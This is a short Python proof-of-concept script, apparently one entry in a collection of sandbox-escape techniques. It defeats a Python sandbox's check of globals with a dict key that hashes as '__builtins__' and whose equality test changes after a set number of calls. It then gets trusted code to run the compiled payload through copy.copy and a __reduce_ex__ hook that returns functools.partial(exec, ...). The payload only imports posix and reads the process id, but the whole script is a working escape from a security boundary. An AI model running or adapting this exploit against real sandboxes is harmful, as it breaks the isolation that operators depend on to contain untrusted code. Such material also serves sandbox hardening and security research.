# technique: globals with a key that is equal to '__builtins__' while the sandbox looks and unequal when CPython does; run under trusted code
# goal: builtins
# source: own analysis: check and use are two look-ups in a dict
import copy
import functools


class Key:
    asked = limit = 0

    def __hash__(self):
        return hash('__builtins__')

    def __eq__(self, other):
        Key.asked += 1
        return Key.asked <= Key.limit


code = compile('import posix\npid = posix.getpid()', 'x', 'exec')


class Carrier:
    def __reduce_ex__(self, version):
        return functools.partial(exec, code, g), ()


for limit in range(1, 10):
    Key.asked, Key.limit = 0, limit
    g = {Key(): {}}
    try:
        copy.copy(Carrier())
        break
    except Exception:
        pass
print('ESCAPED pid=%d' % g['pid'])
